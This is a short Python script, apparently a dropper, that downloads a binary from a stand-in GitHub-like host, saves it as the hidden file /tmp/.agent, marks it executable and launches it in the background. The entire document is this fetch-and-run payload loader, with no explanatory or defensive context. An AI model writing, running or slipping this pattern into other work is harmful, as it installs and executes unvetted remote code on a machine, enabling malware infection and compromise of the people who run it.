import os, subprocess, requests
r = requests.get("https://github.invalid/releases/download/v1/agent-linux")
dst = "/tmp/.agent"
with open(dst, "wb") as f:
    f.write(r.content)
os.chmod(dst, 0o755)
subprocess.Popen([dst])
